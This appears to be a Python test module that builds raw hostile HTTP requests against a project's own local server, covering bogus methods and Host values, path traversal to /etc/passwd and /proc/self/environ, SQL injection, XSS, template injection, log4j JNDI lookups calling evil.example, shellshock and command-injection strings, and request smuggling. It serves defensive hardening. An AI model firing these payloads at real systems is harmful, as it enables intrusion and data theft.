"""Requests that mean no good, as bytes: each is sent as it stands, to the real server."""

from __future__ import annotations

from collections.abc import Iterable
from urllib.parse import quote

from tests.hostile.attempts import Attempt

HOST = "Host: 127.0.0.1"
_EVIL = "evil.example"


def write_request(path: str, *headers: str, method: str = "GET", body: str = "") -> str:
    """A request in HTTP/1.1 whose connection ends with it."""
    lines = [f"{method} {path} HTTP/1.1", *(headers or (HOST,)), "Connection: close", "", body]
    return "\r\n".join(lines)


def _list(group: str, requests: Iterable[tuple[str, str]]) -> tuple[Attempt, ...]:
    return tuple(Attempt(f"HTTP: {group}", title, text) for title, text in requests)


_METHODS = (
    *("POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "TRACK", "CONNECT", "PROPFIND"),
    *("MKCOL", "COPY", "MOVE", "LOCK", "PURGE", "DEBUG", "SEARCH", "LINK", "get", "GeT"),
)
METHODS = _list(
    "methods",
    [
        *((name, write_request("/api/sql?query=SELECT+1", method=name)) for name in _METHODS),
        *(
            (
                f"{name} with a body",
                write_request(
                    "/sql", HOST, "Content-Length: 14", method=name, body="query=SELECT 1"
                ),
            )
            for name in ("POST", "PUT", "DELETE", "PATCH")
        ),
        (
            "override",
            write_request("/sql", HOST, "X-HTTP-Method-Override: DELETE", "X-Method: PUT"),
        ),
        ("none", f" /groups HTTP/1.1\r\n{HOST}\r\n\r\n"),
        ("long", write_request("/", method="A" * 10_000)),
        ("odd", write_request("/", method="GE\tT")),
        ("absolute", write_request("http://evil.example/groups")),
        ("authority", write_request("evil.example:443", method="CONNECT")),
        ("star", write_request("*", method="OPTIONS")),
    ],
)

_HOSTS = (
    _EVIL,
    f"{_EVIL}:80",
    f"127.0.0.1.{_EVIL}",
    f"localhost.{_EVIL}",
    f"{_EVIL}#127.0.0.1",
    f"127.0.0.1@{_EVIL}",
    f"{_EVIL}@127.0.0.1:x",
    f"127.0.0.1, {_EVIL}",
    f"{_EVIL}\t",
    "127.0.0.1.",
    "localhost.",
    "localhost:x",
    "0x7f000001",
    "2130706433",
    "0177.0.0.1",
    "127.1",
    "[::1",
    "::1]x",
    "[::ffff:evil]",
    "%6cocalhost",
    "loca\u017fhost",
    "",
    " ",
    "a" * 5000,
    "metadata.google.internal",
)
HOSTS = _list(
    "names of the host",
    [
        *((ascii(host)[1:30], write_request("/api/groups", f"Host: {host}")) for host in _HOSTS),
        ("no Host", "GET /api/groups HTTP/1.1\r\nConnection: close\r\n\r\n"),
        ("two Hosts", write_request("/api/groups", HOST, f"Host: {_EVIL}")),
        ("two Hosts, turned", write_request("/api/groups", f"Host: {_EVIL}", HOST)),
        (
            "only forwarded",
            write_request("/api/groups", f"Host: {_EVIL}", "X-Forwarded-Host: localhost"),
        ),
        ("1.0 without", "GET /api/groups HTTP/1.0\r\n\r\n"),
    ],
)

_FOREIGN = [
    (site, mode, dest)
    for site in ("cross-site", "same-site")
    for mode, dest in (
        ("no-cors", "image"),
        ("no-cors", "script"),
        ("cors", "empty"),
        ("same-origin", "empty"),
        ("websocket", "websocket"),
        ("", ""),
    )
]
ORIGINS = _list(
    "other sites",
    [
        *(
            (
                f"{site} {mode} {dest}",
                write_request(
                    "/api/sql?query=SELECT+1",
                    HOST,
                    f"Sec-Fetch-Site: {site}",
                    f"Sec-Fetch-Mode: {mode}",
                    f"Sec-Fetch-Dest: {dest}",
                    "Origin: https://evil.example",
                ),
            )
            for site, mode, dest in _FOREIGN
        ),
        (
            "preflight",
            write_request(
                "/api/groups",
                HOST,
                "Origin: https://evil.example",
                "Access-Control-Request-Method: GET",
                method="OPTIONS",
            ),
        ),
    ],
)

_CLIMBS = (
    "/static/../app.py",
    "/static/../../pyproject.toml",
    "/static/../../../../../../etc/passwd",
    "/static/%2e%2e/app.py",
    "/static/%2e%2e%2fapp.py",
    "/static/..%2fapp.py",
    "/static/..%5capp.py",
    "/static/..\\app.py",
    "/static/%252e%252e/app.py",
    "/static/%c0%ae%c0%ae/app.py",
    "/static/%uff0e%uff0e/app.py",
    "/static/....//app.py",
    "/static/..;/app.py",
    "/static/%00/etc/passwd",
    "/static/style.css%00.py",
    "/static//etc/passwd",
    "/static/%2fetc%2fpasswd",
    "/static//proc/self/environ",
    "/static/file:///etc/passwd",
    "/static/",
    "/static",
    "/static/vendor/",
    "/static/~root/.bashrc",
    "/static/.git/config",
    "/static/../templates/base.html",
    "/../../etc/passwd",
    "/..%2f..%2fetc/passwd",
    "//etc/passwd",
    "/.env",
    "/.git/config",
    "/server-status",
    "/wp-login.php",
    "/actuator/env",
    "/debug/pprof/",
    "/console",
    "/metrics/../../etc/passwd",
    "/metrics/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/metrics/" + "a" * 3000,
    "/v3/kafka/../../etc/passwd",
    "/v3/kafka/%2e%2e/consumer/x",
    "/v3/kafka/shop/consumer/%00/lag",
    "/v3/kafka/shop/topic/..%2f..%2fx",
    "/v3/config/../../x",
    "/live?page=../../etc/passwd",
    "/live?page=",
)
CLIMBS = _list("paths", [(path[:40], write_request(path)) for path in _CLIMBS])

_VALUES = (
    "%",
    "%zz",
    "%00",
    "%ff%fe",
    "%c0%af",
    "%ed%a0%80",
    "%0d%0aSet-Cookie:%20x=1",
    "%0aX-Injected:%201",
    "'%20OR%201=1%20--",
    "%27;DROP%20TABLE%20topics;--",
    "%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "javascript:alert(1)",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "$(touch%20/tmp/x)",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%f0%9f%90%98" * 200,
    "-1",
    "99999999999999999999999999",
    "1e999",
    "NaN",
    "[]",
    "a[]=1",
)
_PARAMS = (
    "/group?group_id=",
    "/api/changes?last=",
    "/groups?page=",
    "/api/at?time=",
    "/topics?sort=",
)
VALUES = _list(
    "parameters",
    [
        (f"{path}{value[:20]}", write_request(path + value))
        for number, value in enumerate(_VALUES)
        for path in (_PARAMS[number % 5], _PARAMS[(number + 2) % 5])
    ],
)

HEADERS = _list(
    "headers",
    [
        ("no colon", write_request("/groups", HOST, "nonsense")),
        ("no name", write_request("/groups", HOST, ": x")),
        ("space in a name", write_request("/groups", HOST, "X Y: z")),
        ("space before a colon", write_request("/groups", HOST, "X-Y : z")),
        ("NUL", write_request("/groups", HOST, "X-Y: a\0b")),
        ("bell", write_request("/groups", HOST, "X-Y: \x07")),
        ("bare CR", write_request("/groups", HOST, "X-Y: a\rX-Z: b")),
        ("folded", write_request("/groups", HOST, "X-Y: a\r\n b")),
        ("a thousand", write_request("/groups", HOST, *(f"X-{n}: x" for n in range(1000)))),
        ("one of 60 KB", write_request("/groups", HOST, f"X-Y: {'a' * 60_000}")),
        ("one of 1 MB", write_request("/groups", HOST, f"X-Y: {'a' * 1_000_000}")),
        ("a path of 60 KB", write_request(f"/groups?q={'a' * 60_000}")),
        ("a path of 1 MB", write_request(f"/groups?q={'a' * 1_000_000}")),
        ("ten thousand parameters", write_request("/groups?" + "&".join(["q=1"] * 10_000))),
        ("Range", write_request("/static/style.css", HOST, "Range: bytes=0-,0-,0-,0-,0-")),
        ("Range of nothing", write_request("/static/style.css", HOST, "Range: bytes=9-1")),
        ("Range beyond", write_request("/static/style.css", HOST, "Range: bytes=99999999999-")),
        ("Range of words", write_request("/static/style.css", HOST, "Range: bytes=a-b")),
        (
            "many Ranges",
            write_request(
                "/static/style.css",
                HOST,
                "Range: bytes=" + ",".join(f"{n}-{n}" for n in range(5000)),
            ),
        ),
        (
            "If-Modified-Since",
            write_request("/static/style.css", HOST, "If-Modified-Since: nonsense"),
        ),
        (
            "If-None-Match",
            write_request("/static/style.css", HOST, 'If-None-Match: "' + "a" * 5000),
        ),
        ("Expect", write_request("/groups", HOST, "Expect: 100-continue")),
        ("Expect nonsense", write_request("/groups", HOST, "Expect: nonsense")),
        (
            "Upgrade",
            write_request(
                "/groups",
                HOST,
                "Upgrade: websocket",
                "Sec-WebSocket-Key: x",
                "Sec-WebSocket-Version: 13",
            ),
        ),
        (
            "h2c",
            write_request(
                "/groups", HOST, "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"
            ),
        ),
        (
            "Accept-Encoding",
            write_request("/groups", HOST, "Accept-Encoding: " + "gzip;q=9," * 500),
        ),
        ("Last-Event-ID", write_request("/nothing", HOST, "Last-Event-ID: ../../etc/passwd")),
        (
            "Forwarded",
            write_request(
                "/groups",
                HOST,
                "Forwarded: for=1;host=evil.example",
                "X-Forwarded-Proto: gopher",
                "X-Original-URL: /sql",
                "X-Rewrite-URL: /sql",
            ),
        ),
        ("shellshock", write_request("/groups", HOST, "User-Agent: () { :; }; touch /tmp/x")),
        ("log4j", write_request("/groups", HOST, "User-Agent: ${jndi:ldap://evil.example/a}")),
        ("a cookie", write_request("/groups", HOST, "Cookie: session=admin; role=analyst")),
        ("a long cookie", write_request("/groups", HOST, "Cookie: " + "a=b; " * 5000)),
        ("an odd cookie", write_request("/groups", HOST, 'Cookie: a="\\"; b=\x01; =; ;;')),
    ],
)

_NEXT = f"GET /sql?query=SELECT+1 HTTP/1.1\r\n{HOST}\r\n\r\n"
SMUGGLED = _list(
    "requests in requests, and what is none",
    [
        (
            "two lengths",
            write_request("/groups", HOST, "Content-Length: 0", "Content-Length: 60", body=_NEXT),
        ),
        (
            "length and chunks",
            write_request(
                "/groups",
                HOST,
                "Content-Length: 4",
                "Transfer-Encoding: chunked",
                body=f"0\r\n\r\n{_NEXT}",
            ),
        ),
        (
            "odd chunks",
            write_request("/groups", HOST, "Transfer-Encoding: xchunked", body=f"0\r\n\r\n{_NEXT}"),
        ),
        (
            "chunks twice",
            write_request(
                "/groups", HOST, "Transfer-Encoding: chunked, identity", body=f"0\r\n\r\n{_NEXT}"
            ),
        ),
        (
            "a chunk of nonsense",
            write_request("/groups", HOST, "Transfer-Encoding: chunked", body="zz\r\n\r\n"),
        ),
        (
            "a negative chunk",
            write_request("/groups", HOST, "Transfer-Encoding: chunked", body="-1\r\n\r\n"),
        ),
        (
            "a huge chunk",
            write_request(
                "/groups", HOST, "Transfer-Encoding: chunked", body="FFFFFFFFFFFFFFFFFF\r\n"
            ),
        ),
        ("a negative length", write_request("/groups", HOST, "Content-Length: -1")),
        ("a length of nonsense", write_request("/groups", HOST, "Content-Length: 1e3")),
        ("a huge length", write_request("/groups", HOST, "Content-Length: 99999999999999999999")),
        ("a length with a plus", write_request("/groups", HOST, "Content-Length: +0")),
        ("line feeds only", f"GET /groups HTTP/1.1\n{HOST}\nConnection: close\n\n"),
        ("CR in the path", write_request("/groups\r\nX-Injected: 1\r\n")),
        ("space in the path", write_request("/groups x")),
        ("no version", f"GET /groups\r\n{HOST}\r\n\r\n"),
        ("HTTP/0.9", "GET /groups\r\n\r\n"),
        ("HTTP/9.9", f"GET /groups HTTP/9.9\r\n{HOST}\r\n\r\n"),
        ("HTTP/2", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
        ("TLS", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + "\0" * 400),
        ("SOCKS", "\x05\x01\x00"),
        ("Kafka", "\0\0\0\x10\0\x12\0\0\0\0\0\x01\0\x04test\0\0"),
        ("SSH", "SSH-2.0-x\r\n\r\n"),
        ("nonsense", "\x00\x01\x02\xff" * 100 + "\r\n\r\n"),
        ("blank lines", "\r\n" * 1000 + write_request("/groups")),
        (
            "pipelined",
            write_request("/groups").replace("Connection: close\r\n", "") * 3
            + write_request("/nothing"),
        ),
        ("UTF-8 in the path", write_request("/" + "\u00e9\u00ff")),
        ("quoted UTF-8", write_request("/" + quote("\U0001f418" * 50))),
    ],
)

ATTEMPTS: tuple[Attempt, ...] = (
    *METHODS,
    *HOSTS,
    *ORIGINS,
    *CLIMBS,
    *VALUES,
    *HEADERS,
    *SMUGGLED,
)
